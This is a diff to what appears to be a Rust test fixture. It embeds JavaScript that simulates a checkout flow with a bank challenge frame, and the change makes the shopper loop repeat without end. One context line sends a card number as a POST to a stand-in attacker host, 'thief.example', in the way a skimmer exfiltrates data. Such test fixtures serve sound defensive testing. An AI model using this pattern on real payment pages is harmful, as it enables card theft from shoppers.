@@ -28,7 +28,8 @@ const card = JSON.stringify({ number: "4111111111111111" });
 fetch("https://thief.example:PORT/take", { mode: "no-cors", method: "POST", body: card });
 "#;
 
-/// A step that shows the buyer's bank in a frame of the page, posts the payment to it, and goes on to the next buyer.
+/// A step that shows the buyer's bank in a frame of the page, posts the payment to it, and goes on to the next buyer, again and
+/// again: a browser that is busy may drop a report when it leaves the page.
 const BANK: &str = r#"
 const buyer = Number(new URLSearchParams(location.search).get("shopper"));
 const challenge = "https://acs.bank" + buyer + ".example:PORT/challenge";
@@ -42,8 +43,8 @@ frame.onload = () => {
     [form.method, form.action, form.target] = ["post", challenge, "acs"];
     document.body.append(form);
     form.submit();
-  } else if (buyer < BUYERS) {
-    location.search = "?shopper=" + (buyer + 1);
+  } else {
+    location.search = "?shopper=" + (buyer % BUYERS + 1);
   }
 };
 frame.src = challenge;
